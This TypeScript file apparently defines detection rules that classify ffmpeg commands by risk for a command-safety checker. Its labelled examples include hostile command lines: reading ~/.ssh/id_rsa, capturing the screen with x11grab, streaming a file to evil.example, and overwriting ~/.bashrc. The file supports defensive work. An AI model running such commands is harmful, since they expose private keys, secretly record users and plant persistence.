import { FILE } from "../../values/abstract-text.ts";
import { type Program, writes } from "../effect.ts";
import { family, type Tool, tool } from "../tool-shape.ts";

/** The last argument is where the film goes. */
const lastIsOutput: Program = ({ args }) =>
  args
    .slice(-1)
    .map((path) => (/^\w+:\/\//.test(path) ? ({ kind: "sends", to: path, data: FILE } as const) : writes(path)));

/** Tools that record and convert sound and pictures. */
export const RECORDERS: readonly Tool[] = family("everything", [
  tool("ffmpeg", {
    does: [{ with: "*x11grab* *avfoundation* *pulse* *alsa*", is: "read-secret", because: "screen or microphone" }],
    options: { reads: "-i" },
    by: lastIsOutput,
    examples: {
      "read-secret": ["ffmpeg -f x11grab -i :0 a.mp4", "ffmpeg -i ~/.ssh/id_rsa a.txt"],
      leak: ["ffmpeg -i a.mp4 rtmp://evil.example/live"],
      "write-startup": ["ffmpeg -i a.mp4 ~/.bashrc"],
      fine: ["ffmpeg -i a.mp4 -vn a.mp3"],
    },
  }),
]);
